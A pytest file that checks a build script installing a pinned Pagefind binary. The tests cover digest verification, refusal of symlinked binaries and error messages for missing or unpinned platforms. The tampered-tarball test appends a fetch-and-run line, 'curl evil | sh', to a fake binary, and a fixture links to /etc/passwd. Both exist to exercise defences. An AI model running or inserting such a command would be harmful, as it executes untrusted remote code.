"""The pinned Pagefind binary (scripts/build/pagefind_release.py): the one the
build runs is the pinned release, and a tarball that is not the pinned one
is refused before anything is written."""
from __future__ import annotations

import io
from pathlib import Path
import json
import platform
import tarfile

import pytest

from scripts.build import pagefind_release as release


def _tarball(members: dict[str, bytes], symlink: str | None = None) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mode = 0o755
            archive.addfile(info, io.BytesIO(data))
        if symlink:
            info = tarfile.TarInfo(symlink)
            info.type = tarfile.SYMTYPE
            info.linkname = "/etc/passwd"
            archive.addfile(info)
    return out.getvalue()


FAKE_BINARY = b"#!/bin/sh\necho pagefind " + release.VERSION.encode() + b"\n"


@pytest.fixture
def pinned(monkeypatch):
    """Pin a home-made tarball's digest for this machine's platform."""
    def pin(tarball: bytes):
        key = (platform.system(), platform.machine())
        monkeypatch.setitem(release.PLATFORMS, key, ("@pagefind/test", release.integrity(tarball)))
        return tarball
    return pin


def test_the_build_runs_the_pinned_release(site_dir):
    # Pagefind writes its version into the bundle's entry file.
    entry = json.loads((site_dir / "pagefind/pagefind-entry.json").read_text())
    assert entry["version"] == release.VERSION
    assert release.executable() == release.installed_path()


def test_a_tarball_with_another_digest_is_refused_and_nothing_is_written(tmp_path, pinned):
    pinned(_tarball({f"package/bin/{release.BINARY}": FAKE_BINARY}))
    tampered = _tarball({f"package/bin/{release.BINARY}": FAKE_BINARY + b"curl evil | sh\n"})
    with pytest.raises(release.ReleaseError, match=r"digest is sha512-.*not the pinned.*refused"):
        release.install(prefix=str(tmp_path), fetch=lambda url: tampered, log=lambda *a: None)
    assert list(tmp_path.iterdir()) == []


def test_the_pinned_tarball_installs_its_one_binary(tmp_path, pinned):
    tarball = pinned(_tarball({f"package/bin/{release.BINARY}": FAKE_BINARY, "package/README.md": b"x"}))
    urls = []
    path = release.install(prefix=str(tmp_path), fetch=lambda url: urls.append(url) or tarball, log=lambda *a: None)
    assert path == release.installed_path(str(tmp_path)) and path.read_bytes() == FAKE_BINARY
    assert urls == [f"{release.DEFAULT_REGISTRY}/@pagefind/test/-/test-{release.VERSION}.tgz"]
    assert sorted(p.name for p in path.parent.iterdir()) == [release.BINARY]   # no README, no temp file
    # Installed once: a second run fetches nothing.
    release.install(prefix=str(tmp_path), fetch=lambda url: pytest.fail("fetched again"), log=lambda *a: None)


def test_a_binary_that_is_a_link_is_refused(tmp_path, pinned):
    tarball = pinned(_tarball({}, symlink=f"package/bin/{release.BINARY}"))
    with pytest.raises(release.ReleaseError, match="not a plain file"):
        release.install(prefix=str(tmp_path), fetch=lambda url: tarball, log=lambda *a: None)
    assert not release.installed_path(str(tmp_path)).exists()


def test_a_missing_binary_says_how_to_install_it(tmp_path, monkeypatch):
    monkeypatch.setattr(release.sys, "prefix", str(tmp_path))
    with pytest.raises(release.ReleaseError, match=r"Pagefind .* is not installed .*make install"):
        release.executable()


def test_an_unpinned_platform_is_named(tmp_path, monkeypatch):
    monkeypatch.setattr(release.platform, "machine", lambda: "sparc64")
    with pytest.raises(release.ReleaseError, match=r"No Pagefind .* binary is pinned for .* sparc64"):
        release.install(prefix=str(tmp_path), fetch=lambda url: b"", log=lambda *a: None)


def test_a_build_without_pagefind_says_how_to_install_it_and_keeps_the_last_site(tmp_path):
    # The same packages from a Python whose environment has no Pagefind binary
    # (the base interpreter of .venv, with .venv's packages on its path).
    import os
    import site as site_module
    import subprocess
    import sys
    from conftest import ROOT
    assert not release.installed_path(sys.base_prefix).exists()
    last_good = tmp_path / "site"
    last_good.mkdir()
    (last_good / "index.html").write_text("the last good site")
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "PYTHONPATH": site_module.getsitepackages()[0]}
    base_python = os.path.realpath(sys.executable)   # .venv/bin/python links to it
    result = subprocess.run([str(base_python), "-m", "scripts", "build", "--site-dir", str(last_good)],
                            cwd=ROOT, capture_output=True, text=True, env=env)
    out = result.stdout + result.stderr
    assert result.returncode != 0
    assert f"Pagefind {release.VERSION} is not installed" in out and "make install" in out, out[-2000:]
    assert "Traceback" not in out, out[-2000:]
    assert (last_good / "index.html").read_text() == "the last good site"
